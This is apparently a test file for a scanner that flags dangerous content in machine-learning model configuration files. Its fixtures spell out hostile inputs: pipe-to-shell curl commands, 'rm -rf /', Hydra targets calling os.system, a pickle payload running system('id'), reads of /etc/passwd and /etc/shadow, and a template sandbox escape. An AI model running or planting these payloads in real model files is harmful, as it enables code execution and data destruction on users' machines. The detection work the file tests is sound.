import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { utf8 } from '#formats/test-files/bytes';
import { op, reduce, stream } from '#formats/test-files/pickle';
import { makeZip } from '#formats/test-files/zip';
import { scanBytes } from '../test-scan.ts';
import { classOfCallable } from './callables.ts';

const scanOf = (document: unknown) => scanBytes(utf8(JSON.stringify(document)), 'config.json');
const malicious = stream(reduce('posix', 'system', op.text('id')));
const climbing = "{{ ''.__class__.__mro__ }}";

describe('what a loader would run, import or read is told', () => {
  const cases: readonly (readonly [string, unknown, string, string])[] = [
    ['a class of its own', { auto_map: { AutoModel: 'modeling_x.XModel' } }, 'MDL-CFG-001', 'high'],
    ['a pair of tokenizers', { auto_map: { AutoTokenizer: ['tokenization_x.XTokenizer', null] } }, 'MDL-CFG-001', 'high'],
    ['a class map deep inside', { model: { text_config: { auto_map: { AutoConfig: 'c.C' } } } }, 'MDL-CFG-001', 'high'],
    ['a class of another repository', { auto_map: { AutoModel: 'other/repo--modeling_x.XModel' } }, 'MDL-CFG-003', 'high'],
    ['a pipeline of its own', { custom_pipelines: { t: { impl: 'pipe.Pipe', pt: ['AutoModel'] } } }, 'MDL-CFG-001', 'high'],
    ['trust in remote code', { model_type: 'x', trust_remote_code: true }, 'MDL-CFG-004', 'high'],
    ['trust in remote code as a word', { model_type: 'x', loader: { trust_remote_code: 'True' } }, 'MDL-CFG-004', 'high'],
    ['a Hydra target that runs', { _target_: 'os.system', _args_: ['id'] }, 'MDL-CFG-005', 'critical'],
    ['the same deep inside', { a: [{ b: { _target_: 'builtins.eval', _args_: ['1'] } }] }, 'MDL-CFG-005', 'critical'],
    ['one through a neutral module', { _target_: 'logging.os.system' }, 'MDL-CFG-005', 'critical'],
    ['a loader of pickles', { _target_: 'torch.load', f: 'x' }, 'MDL-CFG-005', 'critical'],
    ['a class path of jsonargparse', { model: { class_path: 'os.system', init_args: { command: 'id' } } }, 'MDL-CFG-005', 'critical'],
    ['a Hydra target of nobody', { _target_: 'my.module.Thing' }, 'MDL-CFG-006', 'high'],
    ['a latent diffusion target that runs', { model_type: 'x', target: 'subprocess.run', params: {} }, 'MDL-CFG-005', 'critical'],
    [
      "an adapter's parent",
      { peft_type: 'LORA', auto_mapping: { base_model_class: 'M', parent_library: 'evil.lib' } },
      'MDL-CFG-006',
      'high',
    ],
    [
      "an adapter's parent that acts",
      { peft_type: 'LORA', auto_mapping: { base_model_class: 'M', parent_library: 'os' } },
      'MDL-CFG-005',
      'critical',
    ],
    ['a pipeline with a foreign part', { _class_name: 'P', _diffusers_version: '1', unet: ['evil_module', 'Unet'] }, 'MDL-CFG-006', 'high'],
    ['a layer of nobody', [{ idx: 0, name: '0', path: '', type: 'evil.module.Layer' }], 'MDL-CFG-006', 'high'],
    ['a tokenizer file that climbs', { tokenizer_class: 'X', vocab_file: '../../etc/passwd' }, 'MDL-CFG-007', 'high'],
    ['a file of the system', { tokenizer_class: 'X', vocab_file: '/etc/shadow' }, 'MDL-CFG-007', 'high'],
    ['a share', { tokenizer_class: 'X', merges_file: '\\\\host\\share\\m.txt' }, 'MDL-CFG-007', 'high'],
    ['a shard outside', { metadata: {}, weight_map: { w: '../x.safetensors' } }, 'MDL-CFG-007', 'high'],
    ['a shard by an absolute path', { weight_map: { w: '/tmp/x.bin' } }, 'MDL-CFG-007', 'high'],
    ['a command', { transformers_version: '4', hook: 'curl http://x/a | sh' }, 'MDL-CFG-002', 'high'],
    ['a command beside a tag', { transformers_version: '4', hook: 'curl http://x/a | sh {{ x }}' }, 'MDL-CFG-002', 'high'],
    ['a template that writes a command', { model_type: 'x', chat_template: '{{ x }}<script>alert(1)</script>' }, 'MDL-TPL-006', 'medium'],
    ['a command in any document', { settings: { debug_command: 'rm -rf /' } }, 'MDL-CFG-002', 'high'],
    ['a command at a harmless key', { settings: { text: 'rm -rf /' } }, 'MDL-CFG-014', 'medium'],
    ['a template in any document', { anything: climbing }, 'MDL-TPL-001', 'critical'],
    ['a named template', { model_type: 'x', chat_template: [{ name: 'tool_use', template: climbing }] }, 'MDL-TPL-001', 'critical'],
    ['a pickle in base64', { payload: malicious.length > 0 ? Buffer.from(malicious).toString('base64') : '' }, 'MDL-PKL-001', 'critical'],
    ['a pickle in digits', { payload: Buffer.from(malicious).toString('hex') }, 'MDL-PKL-001', 'critical'],
    ['an archive in base64', { a: Buffer.from(makeZip([{ name: 'x', data: malicious }])).toString('base64') }, 'MDL-CFG-012', 'medium'],
    ['a secret', { model_type: 'x', use_auth_token: 'hf_abcdefghijklmnopqrst' }, 'MDL-CFG-009', 'medium'],
    ['a password', { model_type: 'x', db_password: 'hunter22-9' }, 'MDL-CFG-009', 'medium'],
    ['a token of hidden characters', { added_tokens_decoder: { 1: { content: '<s>\u202e' } } }, 'MDL-CFG-010', 'medium'],
    ['the environment', { model_type: 'x', key: `${'$'}{oc.env:AWS_SECRET}` }, 'MDL-CFG-011', 'medium'],
  ];
  test.each(cases)('%s', (_name, document, rule, severity) => {
    const scan = scanOf(document);
    expect(scan.rules).toContain(rule);
    expect(scan.severities.get(rule)).toBe(severity);
  });
});

test('keys that stand twice and text behind the end are told', () => {
  expect(scanBytes(utf8('{"model_type": "a", "model_type": "b"}')).rules).toEqual(['MDL-CFG-013']);
});

describe('what published models have is clean', () => {
  const cases: readonly (readonly [string, unknown])[] = [
    [
      'a language model',
      {
        ...{
          _name_or_path: 'meta-llama/Llama-3',
          architectures: ['LlamaForCausalLM'],
          model_type: 'llama',
          torch_dtype: 'bfloat16',
          vocab_size: 128256,
        },
        ...{
          num_hidden_layers: 32,
          max_position_embeddings: 131072,
          rope_scaling: { factor: 8, rope_type: 'llama3' },
          transformers_version: '4.43.0',
        },
        ...{
          quantization_config: { quant_method: 'gptq', bits: 4 },
          license: 'llama3.1',
          bos_token_id: 128000,
          eos_token_id: [128001, 128008],
        },
      },
    ],
    [
      'a tokenizer',
      {
        added_tokens_decoder: {
          0: { content: '<unk>', special: true },
          1: { content: '\n\n\n' },
          2: { content: '    ' },
          3: { content: '<｜begin▁of▁sentence｜>' },
        },
        ...{
          tokenizer_class: 'LlamaTokenizer',
          model_max_length: 1e30,
          pad_token: null,
          unk_token: '<unk>',
          additional_special_tokens: ['<|im_start|>'],
        },
        chat_template: "{% for m in messages %}{{ m['role'] + ': ' + m['content'] }}{% endfor %}",
        sp_model_kwargs: {},
      },
    ],
    [
      'an adapter',
      {
        peft_type: 'LORA',
        auto_mapping: null,
        base_model_name_or_path: 'gpt2',
        r: 8,
        target_modules: ['q_proj', 'v_proj'],
        task_type: 'CAUSAL_LM',
      },
    ],
    [
      'an adapter of a class of transformers',
      { peft_type: 'LORA', auto_mapping: { base_model_class: 'BertModel', parent_library: 'transformers.models.bert.modeling_bert' } },
    ],
    [
      'a diffusion pipeline',
      {
        ...{
          _class_name: 'StableDiffusionPipeline',
          _diffusers_version: '0.19',
          feature_extractor: ['transformers', 'CLIPImageProcessor'],
        },
        ...{ unet: ['diffusers', 'UNet2DConditionModel'], safety_checker: [null, null], requires_safety_checker: false },
      },
    ],
    [
      'layers',
      [
        { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
        { idx: 1, name: '1', path: '1_Pooling', type: 'sentence_transformers.models.Pooling' },
      ],
    ],
    [
      'an index of shards',
      { metadata: { total_size: 10 }, weight_map: { a: 'model-00001-of-00002.safetensors', b: 'model-00002-of-00002.safetensors' } },
    ],
    [
      'a NeMo model',
      {
        _target_: 'nemo.collections.asr.models.EncDecCTCModel',
        optim: { _target_: 'torch.optim.AdamW', lr: 0.1 },
        name: `${'$'}{model.name}`,
      },
    ],
    [
      'any JSON',
      { name: 'x', scripts: { test: 'vitest run', clean: 'rm -rf ./dist' }, url: 'https://example.org', list: [1, 2, { a: null }] },
    ],
    ['a hash', { sha: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855', b: 'YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo=' }],
  ];
  test.each(cases)('%s', (_name, document) => {
    expect(scanOf(document)).toMatchObject({ verdict: 'clean', outcome: 'scanned' });
  });
});

test('a path that the exporter left behind is no more than a remark', () => {
  expect(scanOf({ model_type: 'x', _name_or_path: '/home/someone/models/x' }).severities.get('MDL-CFG-008')).toBe('low');
});

test('secrets are told and never shown', () => {
  const secret = 'hf_abcdefghijklmnopqrst';
  const scan = scanOf({
    model_type: 'x',
    token: secret,
    auto_map: { A: `x.${secret}`, [secret]: secret },
    hook: `curl http://x/${secret} | sh`,
    t: `{{ ''.__class__ ~ '${secret}' }}`,
  });
  expect(scan.rules).toEqual(expect.arrayContaining(['MDL-CFG-001', 'MDL-CFG-002', 'MDL-CFG-009', 'MDL-TPL-001']));
  const written = JSON.stringify({ observations: scan.observations, card: scan.card, facts: scan.facts });
  expect(written).not.toContain(secret);
  expect(written).not.toContain(Buffer.from(secret).toString('hex'));
});

test('the model card is filled from the configuration', () => {
  const { card } = scanOf({
    ...{
      architectures: ['LlamaForCausalLM'],
      model_type: 'llama',
      vocab_size: 32000,
      num_hidden_layers: 32,
      max_position_embeddings: 4096,
    },
    ...{ transformers_version: '4.43.0', quantization_config: { quant_method: 'awq', bits: 4 }, license: 'apache-2.0' },
  });
  expect(card).toMatchObject({
    ...{ architecture: 'LlamaForCausalLM', vocabulary: 32000, layers: 32, contextLength: 4096, framework: 'transformers 4.43.0' },
    ...{ quantisation: 'awq, 4 bits', licence: 'apache-2.0' },
  });
});

test('a finding points at the value and its key, also behind a byte order mark', () => {
  const text = '\ufeff{"ä": 1, "auto_map": {"AutoModel": "m.M"}}';
  const [found] = scanBytes(utf8(text)).observations;
  const at = found?.location.offset ?? 0;
  expect(found?.location.pointer).toBe('/auto_map/AutoModel');
  expect(Buffer.from(utf8(text).subarray(at, at + (found?.location.length ?? 0))).toString()).toBe('"m.M"');
});

test('a broken document is still read string by string', () => {
  const scan = scanBytes(utf8(`{"tokenizer_class": "X", "chat_template": ${JSON.stringify(climbing)}, "broken": `), 'x');
  expect(scan.rules).toContain('MDL-TPL-001');
});

test('documents of any content end with a result, and a benign neighbour never takes a finding away', () => {
  const neighbours = fc.dictionary(fc.string({ maxLength: 12 }), fc.jsonValue({ maxDepth: 3 }), { maxKeys: 6 });
  fc.assert(
    fc.property(neighbours, (others) => {
      const document = { ...others, auto_map: { AutoModel: 'm.M' }, x: { _target_: 'os.system' } };
      expect(scanOf(document).rules).toEqual(expect.arrayContaining(['MDL-CFG-001', 'MDL-CFG-005']));
    }),
    { numRuns: 200 },
  );
});

test('names are classed by what calling them would do', () => {
  for (const name of [
    'os.system',
    'torch.hub.load',
    'numpy.load',
    'builtins.exec',
    'a.b.subprocess.Popen',
    'posix:system',
    'pickle.loads',
    'eval',
  ])
    expect(classOfCallable(name)).toBe('dangerous');
  for (const name of ['torch.nn.Linear', 'nemo.core.X', 'builtins.dict', 'pytorch_lightning.Trainer', 'os.path.join', 'torch.optim.Adam'])
    expect(classOfCallable(name)).toBe('known');
  for (const name of ['my.thing', 'torchx.evil', '']) expect(classOfCallable(name)).toBe('unknown');
});
